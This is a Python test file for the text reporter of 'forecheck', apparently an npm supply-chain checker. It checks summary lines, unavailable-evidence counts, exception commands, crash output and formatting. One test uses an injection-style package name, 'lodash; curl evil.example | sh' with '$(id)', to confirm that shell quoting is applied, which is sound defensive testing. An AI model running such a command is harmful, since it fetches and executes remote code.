from datetime import timedelta

import msgspec
import pytest

from forecheck.model import (
    Crashed,
    Severity,
    UnavailableKind,
    Unresolved,
)
from forecheck.model import Missing as Lacks
from forecheck.policy import judge
from forecheck.report import Ignore, Report
from forecheck.reporter import Style
from forecheck.reporters.tally import SETTLED
from forecheck.reporters.text import text
from tests.reporters.building import (
    NPM,
    STARTED,
    bystanders,
    config,
    finding,
    passed,
    release,
    report,
    skipped,
    step,
)
from tests.reporters.samples import SAMPLES


def shown(given: Report, **style: object) -> str:
    return text(given, msgspec.convert(style, Style))


def lines(given: Report, **style: object) -> list[str]:
    return shown(given, **style).splitlines()


def test_a_clean_tree_is_one_line() -> None:
    assert lines(SAMPLES["clean"]()) == ["✓ 66 packages examined, nothing against them (2.1 s)"]


@pytest.mark.parametrize(
    ("kinds", "said"),
    [
        ((UnavailableKind.TIMEOUT,) * 3, "1 kind of fact timed out"),
        ((UnavailableKind.UNSUPPORTED,), "1 kind of fact not offered"),
        (
            (UnavailableKind.UNSUPPORTED,) * 2 + (UnavailableKind.NOT_FOUND,),
            "1 kind of fact not found, 1 not offered",
        ),
    ],
)
def test_a_clean_tree_counts_what_could_not_be_looked_at_and_why(
    kinds: tuple[UnavailableKind, ...], said: str
) -> None:
    from forecheck.check import Unknown

    quiet = bystanders(9)
    outcomes = [skipped("fresh-release", one, kind, "no") for one, kind in zip(quiet, kinds, strict=False)]
    clean = report([*passed(quiet), *outcomes], map(step, quiet), by=config(unknown=Unknown.NOTE))
    assert lines(clean, width=120) == [
        f"✓ 9 packages examined, nothing against them (2.1 s; {said}, see --verbose)"
    ]


def test_kinds_of_facts_are_counted_not_packages() -> None:
    quiet = bystanders(40)
    outcomes = [
        msgspec.structs.replace(skipped("no-readme", one, UnavailableKind.UNSUPPORTED, "no"), source=source)
        for one in quiet
        for source in ("readme", "owners")
    ]
    said = " ".join(shown(report(outcomes, map(step, quiet))).split())
    assert "2 kinds of fact not offered" in said
    assert "unavailable 80\n" in shown(report(outcomes, map(step, quiet)), summary=True)


def test_one_missing_fact_counts_once_however_many_checks_want_it() -> None:
    one = release("express")
    checks = ("fresh-release", "new-package", "typosquat")
    outcomes = [skipped(check, one, UnavailableKind.UNSUPPORTED, "no") for check in checks]
    assert "unavailable 1\n" in shown(report(outcomes, [step(one)]), summary=True)


def test_nothing_new_is_said_where_exceptions_or_what_is_installed_explain_it() -> None:
    assert "nothing new against them" in shown(SAMPLES["clean-with-notes"]())
    assert "nothing new against them" in shown(SAMPLES["installed"]())


@pytest.mark.parametrize(
    ("seconds", "said"),
    [(0.04, "0.0 s"), (2.14, "2.1 s"), (59.96, "1 min 0 s"), (192, "3 min 12 s"), (-1, "0.0 s")],
)
def test_elapsed(seconds: float, said: str) -> None:
    clean = msgspec.structs.replace(SAMPLES["clean"](), elapsed=timedelta(seconds=seconds))
    assert f"({said})" in shown(clean)


def test_a_block_says_how_to_record_an_exception() -> None:
    assert '    forecheck allow typosquat lodahs@1.0.1 --reason "…" --until 2026-12-24' in lines(
        SAMPLES["block"]()
    )


def test_an_exception_for_a_name_that_a_shell_would_obey_is_quoted() -> None:
    evil = release("lodash; curl evil.example | sh", "$(id)")
    given = report([finding("known-malware", evil, "m", Severity.HIGH)], [step(evil)])
    assert "forecheck allow known-malware 'lodash; curl evil.example | sh' --reason" in shown(
        given, width=100
    )


def test_no_exception_is_offered_for_what_does_not_exist() -> None:
    lost = Unresolved("reactt", "latest", NPM.url, Lacks.PACKAGE)
    given = report([finding("nonexistent-package", lost, "m", Severity.HIGH)], unresolved=(lost,))
    assert "forecheck allow" not in shown(given, width=100)


def test_only_what_installs_says_that_nothing_was_installed() -> None:
    assert shown(SAMPLES["block"]()).startswith("✗ Nothing was installed: 1 package must not be.")
    assert shown(SAMPLES["block-check"]()).startswith("✗ 1 of 212 packages must not be installed.")


def test_what_was_asked_for_and_does_not_exist_is_no_success() -> None:
    lost = Unresolved("reactt", "^2", NPM.url, Lacks.PACKAGE)
    quiet = bystanders(3)
    given = report(passed(quiet), map(step, quiet), unresolved=(lost,))
    first, *rest = lines(given)
    assert first == "✗ Nothing was installed: 1 package that was asked for does not exist."
    assert "  reactt ^2  registry.npmjs.org has no such package" in rest


def test_missing_evidence_is_grouped_by_source_and_reason() -> None:
    whole = lines(SAMPLES["unknown-only"]())
    assert "    ! packument           registry.npmjs.org stopped answering (3 packages)" in whole
    assert "                          not checked: fresh-release, new-package" in whole
    assert "    ! registry-manifest   too large for 4 packages" in whole
    assert not any("quiet-1 " in line for line in whole)


def test_missing_evidence_that_concerns_one_package_names_it() -> None:
    assert "the database is cut off (quiet-9 2.9.0)" in shown(SAMPLES["unknown-only"]())


def test_everything_lists_who_is_concerned() -> None:
    whole = " ".join(shown(SAMPLES["unknown-only"](), verbose=True).split())
    assert "stopped answering (3 packages: quiet-0@2.0.0, quiet-1@2.1.0, quiet-2@2.2.0)" in whole
    assert "attests nothing (all 212 packages)" in whole


def test_a_crash_is_our_bug_and_its_traceback_is_kept_for_who_asks() -> None:
    given = SAMPLES["crashed"]()
    assert "crashed, which is a bug of forecheck" in shown(given)
    assert "ZeroDivisionError" not in shown(given)
    assert "      | ZeroDivisionError: division by zero" in lines(given, verbose=True)


def test_a_crash_beside_findings_has_a_section() -> None:
    tiny = release("tiny")
    given = report([finding("typosquat", tiny, "m"), Crashed("known-malware", tiny, "x")], [step(tiny)])
    assert "  Checks that crashed" in lines(given)


def test_nothing_examined_is_not_a_clean_bill() -> None:
    assert lines(SAMPLES["nothing-examined"]()) == [
        "! Nothing was examined: 1 package would go and none would come"
    ]
    assert lines(report(())) == ["! Nothing was examined: there is no package to look at"]
    quiet = bystanders(2)
    assert lines(report((), map(step, quiet))) == ["! Nothing was examined: no check looked at 2 packages"]


def test_the_summary_is_the_last_line_and_only_on_request() -> None:
    for make in SAMPLES.values():
        assert "forecheck: " not in shown(make())
        last = lines(make(), summary=True)[-1]
        assert last.startswith("forecheck: BLOCK ")
    assert lines(SAMPLES["block"](), summary=True)[-1] == (
        "forecheck: BLOCK 1, WARN 1, examined 212, unavailable 0"
    )


def test_exceptions_that_did_nothing_are_named() -> None:
    whole = " ".join(shown(SAMPLES["notices"]()).split())
    assert "expired 2026-06-30: the exception from typosquat for lodahs@1 in forecheck.toml:12" in whole
    assert "unused: the exception from fresh-release for * in forecheck.toml:18" in whole


def test_policy_says_that_a_warning_is_settled_in_the_words_we_look_for() -> None:
    tiny = release("tiny")
    plan = report((), [step(tiny, on_disk=True)]).plan
    verdict = judge([finding("fresh-release", tiny, "m")], plan, config(), STARTED)
    assert [one.why in SETTLED for one in verdict.judged] == [True]


def test_accepted_findings_show_who_accepted_them() -> None:
    tiny = release("tiny")
    accepted = Ignore("fresh-release", "tiny", "reviewed by hand")
    given = report([finding("fresh-release", tiny, "m")], [step(tiny)], by=config((accepted,)))
    assert "m (accepted: reviewed by hand)" in shown(given, verbose=True)
    assert "reviewed by hand" not in shown(given)


def test_colour_only_paints() -> None:
    import re

    for make in SAMPLES.values():
        painted = shown(make(), colour=True)
        assert re.sub(r"\x1b\[[0-9;]*m", "", painted) == shown(make())


def test_ascii_is_ascii() -> None:
    for make in SAMPLES.values():
        assert shown(make(), unicode=False).isascii()
